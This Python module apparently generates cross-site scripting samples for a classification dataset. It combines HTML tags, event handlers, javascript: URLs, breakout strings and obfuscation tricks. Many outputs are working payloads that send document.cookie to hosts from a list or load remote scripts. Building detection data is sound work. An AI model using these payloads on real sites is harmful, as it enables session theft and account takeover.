"""Injected scripts by the place they break out of: the first, plain set of makers."""

import random

from generators_common import HOSTS, mixed_case, ordinary, sometimes_encoded, token

TAGS = ("img", "svg", "body", "iframe", "video", "audio", "details", "marquee", "input", "select", "textarea", "object", "embed", "a", "form", "button", "math", "style", "link", "table",
        "div", "p", "b", "isindex", "keygen", "meter", "frameset", "x", "custom", "svg/animate", "dialog", "image", "source", "track", "area", "label", "h1", "span", "base", "bgsound")
EVENTS = ("onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onstart", "onanimationend", "onanimationstart", "onpointerenter", "onpointerover", "onmouseenter", "onblur", "onchange",
          "oninput", "onkeydown", "onkeyup", "onsubmit", "onresize", "onscroll", "onwheel", "oncopy", "onpaste", "ondrag", "ondrop", "onhashchange", "onpageshow", "onbegin", "onend", "onfinish",
          "ontransitionend", "onbeforeinput", "oncut", "onplay", "onloadstart", "onmessage", "onunload", "onselect", "ondblclick", "oncontextmenu", "onauxclick", "onfocusin", "oncanplay", "onreadystatechange")


def sink(rng: random.Random) -> str:
    """A piece of script that does something to be seen."""
    n, host, word = rng.choice((1, 0, 7, 42, 1337, 8, 23)), rng.choice(HOSTS), token(rng)
    arg = rng.choice((str(n), str(n), f"'{word}'", f'"{word}"', "document.cookie", "document.domain", "/xss/", "origin", "location", "document.cookie", "'xss'", "1,2", "this", "window.name"))
    return rng.choice((
        f"alert({arg})", f"alert({arg})", f"alert({arg})", f"confirm({arg})", f"prompt({arg})", f"alert`{n}`", f"print()", f"console.log({arg})", f"eval('ale'+'rt({n})')", f"eval(atob('YWxlcnQoMSk='))",
        f"fetch('//{host}/'+document.cookie)", f"fetch(`https://{host}?c=${{document.cookie}}`)", f"new Image().src='//{host}/?'+document.cookie", f"location='//{host}/?'+document.cookie", f"top['al'+'ert']({n})",
        f"document.write('<script src=//{host}></script>')", f"document.location='http://{host}/{word}?c='+document.cookie", f"Function('alert({n})')()", f"setTimeout('alert({n})',0)", f"window['alert']({n})",
        f"[].constructor.constructor('alert({n})')()", f"import('//{host}/{word}.js')", f"self[atob('YWxlcnQ=')]({n})", f"String.fromCharCode(88,83,83)", f"eval(String.fromCharCode(97,108,101,114,116,40,49,41))",
        f"$.getScript('//{host}')", f"window.open('//{host}')", f"document.body.innerHTML='{word}'", f"localStorage.getItem('{word}')", f"throw onerror=alert,{n}", f"onerror=alert;throw {n}", f"(alert)({n})", f"a=alert,a({n})",
        f"\\u0061lert({n})", f"al\\u0065rt({n})", f"parent.alert({n})", f"alert(String.fromCharCode(49))", f"document.forms[0].action='//{host}'", f"navigator.sendBeacon('//{host}',document.cookie)", f"[{n}].find(alert)",
        f"Reflect.apply(alert,null,[{n}])", f"globalThis.alert({n})", f"alert(document['cookie'])", f"with(document)alert(cookie)", f"new Function`alert\\x28{n}\\x29```", f"javascript:alert({n})", f"void(alert({n}))",
    ))


def element(rng: random.Random) -> str:
    """A tag whose event runs it."""
    tag, event, run = rng.choice(TAGS), rng.choice(EVENTS), sink(rng)
    gap = rng.choice((" ", " ", " ", "/", "\t", "\n", " x ", "/x/", "\x0c", "  ", "\r\n", "%0a"))
    quote = rng.choice(("", "", '"', "'", "`"))
    src = rng.choice(("", "", "src=x ", "src=1 ", "src ", "href=# ", "src='' ", "autofocus ", "tabindex=1 id=x ", "style=x ", "open ", "src=//x ", "data=x ", "controls ", "type=image src=x ", "width=1 "))
    eq = rng.choice(("=", "=", "=", " = ", "= ", "%3d", "\n="))
    return f"<{tag}{gap}{src}{event}{eq}{quote}{run}{quote}{rng.choice(('>', '>', '>', '/>', ' //', '//>', f'></{tag}>', '', ' x>', '<'))}"


def script(rng: random.Random) -> str:
    """A script element, whole or hinted at."""
    run, host, word = sink(rng), rng.choice(HOSTS), token(rng)
    return rng.choice((
        f"<script>{run}</script>", f"<script>{run}</script>", f"<script>{run};</script>", f"<script>{run}//", f"<script src=//{host}/{word}.js></script>", f"<script src=\"http://{host}/{word}.js\"></script>", f"<script/x>{run}</script>",
        f"<script type=text/javascript>{run}</script>", f"<script\n>{run}</script\n>", f"<scr<script>ipt>{run}</scr</script>ipt>", f"<<script>{run}//<</script>", f"<script >{run}</script >", f"<script>/*{word}*/{run}</script>",
        f"<svg><script>{run}</script></svg>", f"<script x>{run}</script>", f"<script>\n{run}\n</script>", f"<script src=data:,{run}></script>", f"<script>var {word}='{word}';{run}</script>", f"<script src={host}>", f"<sCrIpT>{run}</ScRiPt>",
        f"</script><script>{run}</script>", f"<script>{run}<!--", f"<script type=module>import'//{host}'</script>", f"<noscript><p title=\"</noscript>{element(rng)}\">", f"<template><script>{run}</script></template>", f"<script>{run}", "<script>",
    ))


def link(rng: random.Random) -> str:
    """A URL that is a script."""
    run = sink(rng)
    scheme = rng.choice(("javascript:", "javascript:", "javascript:", "JaVaScRiPt:", "java\tscript:", "vbscript:", "data:text/html,<script>", "javascript://%0a", "javascript:/*x*/", " javascript:", "java\nscript:", "jav&#x61;script:", "feed:javascript:"))
    if scheme.startswith("data"):
        run = f"{run}</script>"
    if scheme.startswith("vb"):
        run = "msgbox(1)"
    holder = rng.choice(("{}", "{}", "<a href=\"{}\">x</a>", "<a href={}>x", "<iframe src=\"{}\">", "<iframe src={}></iframe>", "<form action={}><input type=submit>", "<object data={}>", "<embed src={}>", "<button formaction={}>x</button>",
                         "<math href={}>x</math>", "<meta http-equiv=refresh content=\"0;url={}\">", "<base href={}//>", "<svg><a xlink:href={}><text y=9>x</text></a></svg>", "<img src={}>", "<link rel=stylesheet href={}>", "[x]({})", "url({})",
                         "<svg><use href={}></svg>", "<isindex action={}>", "<table background={}>", "<div style=\"background:url({})\">", "<body background={}>", "<xml src={}>", "<input type=image src={}>", "<bgsound src={}>"))
    return holder.format(f"{scheme}{run}")


def breakout(rng: random.Random) -> str:
    """The end of the place the value stands in, then the script."""
    run = sink(rng)
    inner = rng.choice((lambda: script(rng), lambda: element(rng), lambda: link(rng)))
    attribute = f"{rng.choice(EVENTS)}={run}"
    return rng.choice((
        lambda: f"\">{inner()}", lambda: f"'>{inner()}", lambda: f">{inner()}", lambda: f"\"/>{inner()}", lambda: f"</{rng.choice(('title', 'textarea', 'style', 'script', 'noscript', 'select', 'xmp', 'iframe'))}>{inner()}", lambda: f"-->{inner()}",
        lambda: f"\" {attribute} x=\"", lambda: f"' {attribute} x='", lambda: f"\" autofocus {attribute} \"", lambda: f"\"{attribute}", lambda: f"' {attribute} '", lambda: f"x {attribute}", lambda: f"`{attribute}", lambda: f"\" style=\"x:expression({run})",
        lambda: f"';{run}//", lambda: f"\";{run}//", lambda: f"'-{run}-'", lambda: f"\"-{run}-\"", lambda: f"'+{run}+'", lambda: f"\\';{run}//", lambda: f"');{run}//", lambda: f"\");{run};(\"", lambda: f"}};{run}//", lambda: f"${{{run}}}", lambda: f"'}});{run}//",
        lambda: f"]]>{inner()}", lambda: f"*/{run}/*", lambda: f"\n{run}\n", lambda: f";{run};", lambda: f"'||{run}||'", lambda: f"&lt;/script&gt;{script(rng)}", lambda: f"\\\"-{run}}}//", lambda: f"\"accesskey=x {attribute}//", lambda: f"</a {attribute}>",
        lambda: f"{{{{constructor.constructor('{run}')()}}}}", lambda: f"{{{{$on.constructor('{run}')()}}}}", lambda: f"{{{{_c.constructor('{run}')()}}}}", lambda: f"<%={run}%>", lambda: f"<style>@import'javascript:{run}';</style>",
    ))()


def make(rng: random.Random) -> str:
    """One text of the class."""
    body = rng.choices((lambda: script(rng), lambda: element(rng), lambda: link(rng), lambda: breakout(rng)), weights=(25, 35, 12, 28))[0]()
    while "function" in repr(type(body)):
        body = body()
    way = rng.random()
    if way < 0.15:
        body = mixed_case(rng, body)
    elif way < 0.2:
        body = body.replace("script", rng.choice(("scr\x00ipt", "SCRIPT", "scscriptript", "script/", "scr\tipt")))
    elif way < 0.23:
        body = body.replace("<", "<<").replace("alert", "al\\u0065rt")
    if rng.random() < 0.35:
        body = f"{ordinary(rng)}{rng.choice(('', ' '))}{body}"
    if rng.random() < 0.1:
        body = f"{body}{rng.choice((' ', ''))}{ordinary(rng)}"
    return sometimes_encoded(rng, body)
